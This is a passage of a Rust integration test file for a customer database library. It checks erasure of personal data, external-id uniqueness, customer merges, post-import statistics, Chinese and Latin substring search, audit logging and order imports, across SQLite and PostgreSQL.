    let (attributes,): (String,) = r.fetch_one(q("SELECT CAST(attributes AS TEXT) FROM customers WHERE id = $1")).await.unwrap();
    assert_eq!(attributes.replace(' ', ""), "{}");
    let leftovers = [
        "SELECT COUNT(*) FROM customer_tags WHERE customer_id = $1",
        "SELECT COUNT(*) FROM notes WHERE customer_id = $1 AND body <> ''",
        "SELECT COUNT(*) FROM interactions WHERE customer_id = $1 AND payload IS NOT NULL",
        "SELECT COUNT(*) FROM customer_changes WHERE customer_id = $1 AND (old_value IS NOT NULL OR new_value IS NOT NULL)",
        "SELECT COUNT(*) FROM contacts WHERE customer_id = $1 AND (name <> 'erased' OR mobile IS NOT NULL)",
    ];
    for sql in leftovers {
        let (n,): (i64,) = r.fetch_one(q(sql)).await.unwrap();
        assert_eq!(n, 0, "{sql}");
    }
    // … while the books still add up, and the source system's file cannot bring the person back.
    let (orders, spend): (i64, i64) =
        r.fetch_one(q("SELECT COUNT(*), CAST(SUM(total_cents) AS BIGINT) FROM orders WHERE customer_id = $1")).await.unwrap();
    assert_eq!((orders, spend), (2, 15000));
    let again = import(s, ImportKind::Customers, "e.csv", file.into(), |_| {}).await;
    assert_eq!((again.created, again.rejected), (0, 1));
    let (audited,): (i64,) = r
        .fetch_one(
            patron_store::db::query("SELECT COUNT(*) FROM audit_log WHERE action IN ('erase', 'export_personal_data') AND entity_id = $1")
                .bind(id.to_string()),
        )
        .await
        .unwrap();
    assert_eq!(audited, 2);
});

test_both!(external_ids_stay_unique_and_references_are_checked, |db: TestDb| async move {
    // External ids are unique across all customers (on Citus through key tables, see
    // patron_store::keys), referrers must exist (checked by the store, not a foreign key), and a
    // merge carries the duplicate's ids over to the customer kept.
    use patron_store::contacts::NewContact;
    use patron_store::interactions::NewInteraction;
    use serde_json::json;
    let s = &db.store;
    let new = |ext: &str, name: &str| NewCustomer { external_id: Some(ext.into()), name: name.into(), ..Default::default() };
    let patch = |v: serde_json::Value| serde_json::from_value::<CustomerPatch>(v).unwrap();
    let a = s.create_customer(&cli(), new("K1", "甲")).await.unwrap();
    let b = s.create_customer(&cli(), new("K2", "乙")).await.unwrap();
    let err = s.create_customer(&cli(), new("K1", "丙")).await.unwrap_err();
    assert!(matches!(err, StoreError::Conflict(ref m) if m.contains("external_id")), "{err:?}");
    let err = s.update_customer(&cli(), b.id, patch(json!({"external_id": "K1", "city": "上海"}))).await.unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err:?}");
    assert_eq!(s.customer(b.id).await.unwrap().city, None, "nothing of a refused change is written");
    // An id given up is free again, and each id finds its customer.
    s.update_customer(&cli(), b.id, patch(json!({"external_id": "K2b"}))).await.unwrap();
    let c = s.create_customer(&cli(), new("K2", "丁")).await.unwrap();
    let order = |ext: &str, customer: &str| NewOrder {
        external_id: Some(ext.into()),
        customer_external_id: Some(customer.into()),
        ordered_at: test_now(),
        total_cents: Some(1000),
        ..Default::default()
    };
    s.create_orders(&cli(), vec![order("OK1", "K2b"), order("OK2", "K2")]).await.unwrap();
    assert_eq!(s.order(s.create_orders(&cli(), vec![order("OK1", "K2b")]).await.unwrap()[0].id).await.unwrap().customer_id, b.id);
    assert_eq!(s.customer_orders(c.id, None, 10).await.unwrap().items.len(), 1);

    // Referrers: unknown ones are refused on create and change; the name comes with the profile.
    let err =
        s.create_customer(&cli(), NewCustomer { name: "戊".into(), referrer_id: Some(999_999), ..Default::default() }).await.unwrap_err();
    assert!(matches!(err, StoreError::Reference(_)), "{err:?}");
    let err = s.update_customer(&cli(), a.id, patch(json!({"referrer_id": 999_999}))).await.unwrap_err();
    assert!(matches!(err, StoreError::Reference(_)), "{err:?}");
    let a2 = s.update_customer(&cli(), a.id, patch(json!({"referrer_id": b.id}))).await.unwrap();
    assert_eq!(a2.referrer.map(|r| (r.id, r.name)), Some((b.id, "乙".to_owned())));
    let d = s.create_customer(&cli(), NewCustomer { name: "己".into(), referrer_id: Some(c.id), ..Default::default() }).await.unwrap();
    assert_eq!(d.referrer.map(|r| r.name), Some("丁".to_owned()));

    // Interactions and contact people: an id of another customer's is a conflict.
    let touch = |ext: &str, customer: &str| NewInteraction {
        external_id: Some(ext.into()),
        customer_id: None,
        customer_external_id: Some(customer.into()),
        kind: "click".into(),
        channel: None,
        occurred_at: test_now(),
        payload: None,
    };
    s.create_interactions(&cli(), vec![touch("IK1", "K1")]).await.unwrap();
    let err = s.create_interactions(&cli(), vec![touch("IK1", "K2")]).await.unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err:?}");
    let org = |ext: &str| NewCustomer {
        external_id: Some(ext.into()),
        kind: Some("organisation".into()),
        name: ext.into(),
        ..Default::default()
    };
    let o1 = s.create_customer(&cli(), org("ORG1")).await.unwrap();
    let o2 = s.create_customer(&cli(), org("ORG2")).await.unwrap();
    let person = || NewContact { external_id: Some("PK1".into()), name: "采购".into(), ..Default::default() };
    s.create_contact(&cli(), o1.id, person()).await.unwrap();
    for target in [o2.id, o1.id] {
        let err = s.create_contact(&cli(), target, person()).await.unwrap_err();
        assert!(matches!(err, StoreError::Conflict(_)), "{err:?}");
    }

    // After a merge the duplicate's order and interaction ids belong to the customer kept:
    // sending them again under either external id updates them.
    s.merge_customers(&cli(), a.id, c.id).await.unwrap();
    s.create_interactions(&cli(), vec![touch("IK2", "K2")]).await.unwrap();
    for customer in ["K1", "K2"] {
        let r = s.create_orders(&cli(), vec![order("OK2", customer)]).await.unwrap();
        assert!(!r[0].created, "an update of the moved order");
        assert_eq!(s.order(r[0].id).await.unwrap().customer_id, a.id);
        assert!(!s.create_interactions(&cli(), vec![touch("IK2", customer)]).await.unwrap()[0].created);
    }
    let err = s.create_orders(&cli(), vec![order("OK2", "K2b")]).await.unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err:?}");
});

test_both!(a_large_import_refreshes_the_planners_statistics, |db: TestDb| async move {
    // PostgreSQL plans from statistics: after a bulk load they must describe the loaded rows,
    // not the empty table (bench/loyalty found a 36 ms plan for a 0.2 ms read without them).
    let s = &db.store;
    let mut customers = String::from("customer_id,name\n");
    for i in 0..100 {
        customers.push_str(&format!("C{i},客户{i}\n"));
    }
    assert!(import(s, ImportKind::Customers, "c.csv", customers.into_bytes(), |_| {}).await.committed);
    let mut orders = String::from("order_id,customer_id,ordered_at,amount\n");
    for i in 0..10_000 {
        orders.push_str(&format!("O{i},C{},2026-0{}-1{} 12:00:00,{}.50\n", i % 100, 1 + i % 5, i % 9, 10 + i % 70));
    }
    let r = import(s, ImportKind::Orders, "o.csv", orders.into_bytes(), |_| {}).await;
    assert!(r.committed && r.created == 10_000, "{r:?}");
    if db.url.starts_with("sqlite") {
        return;
    }
    let (citus,): (i64,) =
        s.db.reader().fetch_one(patron_store::db::query("SELECT COUNT(*) FROM pg_extension WHERE extname = 'citus'")).await.unwrap();
    if citus > 0 {
        // The coordinator holds no rows; the ANALYZE went to the shards without an error.
        return;
    }
    for table in ["orders", "customer_summaries"] {
        let (columns,): (i64,) =
            s.db.reader()
                .fetch_one(patron_store::db::query("SELECT COUNT(*) FROM pg_stats WHERE tablename = $1").bind(table))
                .await
                .unwrap();
        assert!(columns > 0, "{table} has no statistics after a 10,000-row import");
    }
});

// The list's search (issue 15 §2), each branch answered by an index: exact WeChat id, external
// id, mobile and email; three characters or more anywhere in the name, mobile or email in any
// case; one or two, the start of the name. Writes, renames and erasure keep the index current.
test_both!(search_finds_by_index_and_follows_every_write, |db: TestDb| async move {
    let s = &db.store;
    let csv = "customer_id,name,mobile,email,wechat_id,city\n\
               S1,欧阳娜娜,13912345678,Nana.OY@Example.com,wx_nana,上海\n\
               S2,李勇鹏,13800001111,li@example.com,,上海\n\
               S3,Wang Lei,13700002222,wanglei@corp.cn,,北京\n\
               S4,\"Quote \"\"Q\"\" Ltd\",,,,杭州\n\
               S5,李娜,,,,杭州\n";
    let r = import(s, ImportKind::Customers, "s.csv", csv.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected), (5, 0), "{:?}", r.rejections);
    let found = |q: &'static str| async move {
        let page = s.list_customers(&CustomerFilter { q: Some(q.into()), ..Default::default() }, CustomerSort::Id, None, 50).await.unwrap();
        let n = s.count_customers(&CustomerFilter { q: Some(q.into()), ..Default::default() }).await.unwrap();
        let ids: Vec<String> = page.items.into_iter().map(|c| c.external_id.unwrap_or_default()).collect();
        assert_eq!(ids.len() as i64, n, "the count agrees with the list for {q:?}");
        ids
    };
    assert_eq!(found("阳娜娜").await, ["S1"], "a substring in the middle of a Chinese name");
    assert_eq!(found("oy@example").await, ["S1"], "a substring of an email, in any case");
    assert_eq!(found("WANG L").await, ["S3"], "a substring of a Latin name with a space, in any case");
    assert_eq!(found("0000").await, ["S2", "S3"], "a substring of mobiles");
    assert_eq!(found("+86 139-1234-5678").await, ["S1"], "a complete mobile, written as people write it");
    assert_eq!(found("NANA.OY@EXAMPLE.COM").await, ["S1"], "a complete email, exactly, in any case");
    assert_eq!(found("wx_nana").await, ["S1"], "a WeChat id, exactly");
    assert_eq!(found("S4").await, ["S4"], "an external id, exactly");
    assert_eq!(found("\"Q\"").await, ["S4"], "quotes are text, not search syntax");
    assert_eq!(found("李").await, ["S2", "S5"], "one character: names that start with it");
    assert_eq!(found("李娜").await, ["S5"], "two characters: names that start with them");
    assert!(found("娜娜欧").await.is_empty(), "characters in another order are not a substring");
    assert!(found("%_%").await.is_empty(), "LIKE wildcards are literal");

    // A rename, a new mobile and a deletion are seen by the next search.
    let s2 =
        s.list_customers(&CustomerFilter { q: Some("S2".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items[0]
            .id;
    s.update_customer(
        &cli(),
        s2,
        CustomerPatch { name: Some("李勇军".into()), mobile: Some(Some("13655553333".into())), ..Default::default() },
    )
    .await
    .unwrap();
    assert!(found("李勇鹏").await.is_empty(), "the old name is gone from the index");
    assert_eq!(found("李勇军").await, ["S2"]);
    assert_eq!(found("5553333").await, ["S2"]);
    assert_eq!(found("0000").await, ["S3"], "the old mobile is gone from the index");
    let s3 =
        s.list_customers(&CustomerFilter { q: Some("S3".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items[0]
            .id;
    s.delete_customer(&cli(), s3).await.unwrap();
    assert!(found("wang lei").await.is_empty(), "a deleted customer is not found");

    // Erasure takes the name and contact details out of the index with the row.
    let s1 =
        s.list_customers(&CustomerFilter { q: Some("S1".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items[0]
            .id;
    s.erase_customer(&cli(), s1).await.unwrap();
    assert!(found("阳娜娜").await.is_empty());
    if s.db.engine() == patron_store::Engine::Sqlite {
        let (left,): (i64,) =
            s.db.reader()
                .fetch_one(patron_store::db::query(
                    "SELECT COUNT(*) FROM customer_search WHERE customer_search MATCH '\"阳娜娜\" OR \"nana.oy\" OR \"12345678\"'",
                ))
                .await
                .unwrap();
        assert_eq!(left, 0, "no trigram of the erased customer's name, email or mobile is left in the index");
    }
});

/// A database made before migration 0030 (the search index) gets its customers indexed by the
/// upgrade: the same search then finds them.
async fn search_after_upgrade(engine: patron_store::Engine) {
    let (url, _dir, pg_name) = patron_store::testing::fresh_url(engine).await;
    let mut migrator = match engine {
        patron_store::Engine::Sqlite => sqlx::migrate!("./migrations/sqlite"),
        patron_store::Engine::Postgres => sqlx::migrate!("./migrations/postgres"),
    };
    migrator.migrations = migrator.migrations.iter().filter(|m| m.version < 30).cloned().collect::<Vec<_>>().into();
    let insert = "INSERT INTO customers (external_id, kind, name, mobile, email, created_at, updated_at) \
                  VALUES ('OLD1', 'person', '欧阳娜娜', '13912345678', 'nana@example.com', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')";
    match engine {
        patron_store::Engine::Sqlite => {
            let pool = sqlx::SqlitePool::connect(&format!("{url}?mode=rwc")).await.unwrap();
            migrator.run(&pool).await.unwrap();
            sqlx::query(insert).execute(&pool).await.unwrap();
            pool.close().await;
        }
        patron_store::Engine::Postgres => {
            let pool = sqlx::PgPool::connect(&url).await.unwrap();
            migrator.run(&pool).await.unwrap();
            sqlx::query(&insert.replace("'2026-01-01T00:00:00Z'", "TIMESTAMPTZ '2026-01-01T00:00:00Z'")).execute(&pool).await.unwrap();
            pool.close().await;
        }
    }
    let s = Store::connect(&url).await.expect("the upgrade applies");
    for q in ["阳娜娜", "欧阳", "nana@", "13912345678"] {
        let page = s.list_customers(&CustomerFilter { q: Some(q.into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap();
        assert_eq!(page.items.iter().map(|c| c.external_id.as_deref()).collect::<Vec<_>>(), [Some("OLD1")], "{q:?}");
    }
    s.db.close().await;
    if let Some(name) = pg_name {
        patron_store::testing::drop_pg_database(&name);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn search_index_is_built_by_the_upgrade_sqlite() {
    search_after_upgrade(patron_store::Engine::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn search_index_is_built_by_the_upgrade_postgres() {
    search_after_upgrade(patron_store::Engine::Postgres).await;
}

// Audit entries outside a change are committed in groups (issue 15 §1): 200 reads at once
// leave 200 entries, each one committed (and readable) by the time its caller is answered.
test_both!(audit_group_commit_keeps_every_entry, |db: TestDb| async move {
    let tasks: Vec<_> = (0..200i64)
        .map(|i| {
            let s = db.store.clone();
            tokio::spawn(async move {
                let id = (1_000_000 + i).to_string();
                s.audit("token:7", "read", "customer", Some(id.clone()), None).await.unwrap();
                let (n,): (i64,) = s
                    .db
                    .reader()
                    .fetch_one(patron_store::db::query("SELECT COUNT(*) FROM audit_log WHERE entity_id = $1 AND action = 'read'").bind(id))
                    .await
                    .unwrap();
                assert_eq!(n, 1, "the entry is committed before audit() returns");
            })
        })
        .collect();
    for t in tasks {
        t.await.unwrap();
    }
    let entries = db.store.audit_entries(1000, Some("customer"), None).await.unwrap();
    let reads: Vec<_> = entries.iter().filter(|e| e.actor == "token:7").collect();
    assert_eq!(reads.len(), 200);
    let mut ids: Vec<i64> = reads.iter().map(|e| e.customer_id.unwrap()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), 200, "each entry's subject is its customer");
});

/// On a SQLite file the reader thread of an orders import looks its customers up on a read
/// connection of its own; an in-memory database has one connection, so there the writer does.
/// Both find the same customers: known ones, one merged into another (its orders go to the
/// customer kept) and one nobody knows (refused), with enough new ids in a chunk for the walk
/// over their range of the index.
#[tokio::test]
async fn orders_find_their_customers_on_a_file_and_in_memory() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let file_url = format!("sqlite://{}", dir.path().join("orders.db").display());
    let mut seen = Vec::new();
    for url in [file_url.as_str(), "sqlite::memory:"] {
        let s = &Store::connect(url).await.expect("a database");
        let customers: String =
            std::iter::once("customer_id,name\n".to_string()).chain((0..20).map(|i| format!("X{i:02},顾客{i}\n"))).collect();
        assert!(import(s, ImportKind::Customers, "c.csv", customers.into(), |_| {}).await.committed);
        let (keep, gone): (i64, i64) =
            s.db.reader()
                .fetch_one(patron_store::db::query(
                    "SELECT (SELECT id FROM customers WHERE external_id = 'X00'), (SELECT id FROM customers WHERE external_id = 'X05')",
                ))
                .await
                .expect("the two customers");
        s.merge_customers(&cli(), keep, gone).await.expect("merged");
        let orders: String = std::iter::once("order_id,customer_id,ordered_at,amount\n".to_string())
            .chain((0..20).map(|i| format!("O{i:02},X{i:02},2026-03-{:02} 12:00:00,{}.00\n", i + 1, 10 + i)))
            .chain(std::iter::once("O99,NOBODY,2026-03-30 12:00:00,1.00\n".to_string()))
            .collect();
        let r = import(s, ImportKind::Orders, "o.csv", orders.into(), |o| o.skip_invalid = true).await;
        assert!(r.committed, "{url}: {:?}", r.rejections);
        assert_eq!((r.created, r.rejected), (20, 1), "{url}: {:?}", r.rejections);
        assert_eq!(r.rejections[0].row, 22);
        assert!(r.rejections[0].reason.contains("unknown customer"), "{:?}", r.rejections);
        // X05's order went to X00, the customer kept.
        assert_eq!(s.order_stats(keep).await.expect("stats").order_count, 2, "{url}");
        let owners: Vec<(String, String)> =
            s.db.reader()
                .fetch_all(patron_store::db::query(
                    "SELECT o.external_id, c.external_id FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY o.external_id",
                ))
                .await
                .expect("the orders");
        seen.push(owners);
    }
    assert_eq!(seen[0], seen[1], "the file and the in-memory database found different customers");
    assert_eq!(seen[0][5], ("O05".to_string(), "X00".to_string()));
}
